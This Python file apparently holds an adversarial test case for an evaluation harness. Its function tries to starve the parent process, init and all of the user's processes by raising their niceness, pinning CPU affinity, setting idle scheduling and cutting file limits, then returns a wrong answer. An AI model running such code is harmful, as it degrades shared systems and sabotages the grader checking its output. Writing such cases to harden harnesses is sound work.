"""Slows down everybody else: the niceness, processors and limits of its parent and of all the user's processes.
Ends as: fail, error, crash
"""

import contextlib
import os
import resource


def attack(X, wrong):
    for which, who in (
        (os.PRIO_PROCESS, os.getppid()),
        (os.PRIO_PROCESS, 1),
        (os.PRIO_PGRP, 0),
        (os.PRIO_USER, 0),
        (os.PRIO_USER, os.getuid()),
    ):
        with contextlib.suppress(OSError):
            os.setpriority(which, who, 19)
    for process in (os.getppid(), 1):
        with contextlib.suppress(OSError):
            os.sched_setaffinity(process, {0})
        with contextlib.suppress(OSError):
            os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0))
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(process, resource.RLIMIT_NOFILE, (4, 4))
    return wrong
